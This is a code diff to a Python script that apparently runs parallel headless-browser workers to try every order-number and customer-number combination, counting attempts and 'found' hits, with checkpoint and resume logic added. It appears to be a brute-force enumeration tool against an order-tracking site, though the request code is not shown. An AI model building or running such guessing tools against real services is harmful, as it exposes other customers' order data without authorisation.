-    print(f"   • Order Numbers: {len(order_numbers):,}")
+    print(f"   • Order Numbers: {N_ORDERS:,}")
     print(f"   • Customer Numbers: {len(customer_numbers):,}")
-    print(f"   • Total Combinations: {len(order_numbers) * len(customer_numbers):,}")
+    print(f"   • Total Combinations: {N_ORDERS * len(customer_numbers):,}")
     print()
     
-    # Initialize tracker
-    tracker = RailwayBatchTracker(headless=True)
-    
     try:
         print("🔄 Starting batch processing on Railway...")
         print("   • Using fixed ChromeDriver setup")
         print("   • Running in headless mode")
+        print(f"   • {ORDER_WORKERS} orders in parallel")
         print("   • Progress auto-saved")
         print()
         
+        # Resume from the checkpoint left by a previous run
+        results = load_checkpoint()
+        done = {r["order_number"] for r in results}
+        if done:
+            print(f"📂 Resuming: {len(done)} orders already processed")
+        
         # Process first few orders as test
-        test_orders = order_numbers[:5]  # Test with first 5 orders
-        results = []
+        n_test_orders = 5  # Test with first 5 orders
+        pending_orders = [o for o in islice(order_numbers, n_test_orders) if o not in done]
         
-        for i, order_number in enumerate(test_orders, 1):
-            print(f"Processing order {i}/{len(test_orders)}: {order_number}")
-            order_result = tracker.process_single_order(order_number, customer_numbers)
-            results.append(order_result)
+        with Pool(processes=ORDER_WORKERS, initializer=_init_worker, initargs=(customer_numbers,)) as pool:
+            # Installed after the workers start so only this process exits through it;
+            # SystemExit lets the checkpoint below still get flushed
+            signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
             
-            # Save progress
-            with open('railway_results.json', 'w') as f:
-                json.dump(results, f, indent=2)
+            # New records must not be glued onto a line a killed run left half-written
+            end_with_newline(RESULTS_FILE)
+            with open(RESULTS_FILE, 'a', buffering=CHECKPOINT_BUFFER_SIZE) as checkpoint:
+                pending = 0
+                try:
+                    # Each order takes many seconds, so hand them out one at a time
+                    for i, order_result in enumerate(pool.imap_unordered(_work, pending_orders), 1):
+                        results.append(order_result)
+                        
+                        # Orders that couldn't be checked stay out of the checkpoint and are retried on resume
+                        if order_result["status"] == "error":
+                            print(f"Order {i}/{len(pending_orders)} {order_result['order_number']}: error ({order_result['error']})")
+                            continue
+                        
+                        # Save progress, committing to disk in groups of orders
+                        checkpoint.write(json.dumps(order_result, separators=(',', ':')) + '\n')
+                        pending += 1
+                        if pending >= CHECKPOINT_EVERY:
+                            checkpoint.flush()
+                            os.fsync(checkpoint.fileno())
+                            pending = 0
+                        
+                        print(f"Order {i}/{len(pending_orders)} {order_result['order_number']}: {order_result['status']}")
+                finally:
+                    checkpoint.flush()
+                    os.fsync(checkpoint.fileno())
             
-            print(f"Order {order_number}: {order_result['status']}")
+            # Let the workers exit normally so each one closes its browser
+            pool.close()
+            pool.join()
         
         # Print summary
         found_count = sum(1 for r in results if r["status"] == "found")
@@ -397,15 +949,9 @@ def main():
         print(f"📊 Success Rate: {(found_count/len(results)*100):.1f}%")
         print(f"🔢 Total Attempts: {sum(r['attempts'] for r in results):,}")
         
-        # Keep alive for Railway
-        print("\n🔄 Process completed. Keeping alive...")
-        time.sleep(3600)  # Keep alive for 1 hour
-        
     except Exception as e:
         print(f"\n❌ Error: {e}")
         logging.error(f"Railway processing error: {e}")
-    finally:
-        tracker.close()
 
 if __name__ == "__main__":
     main()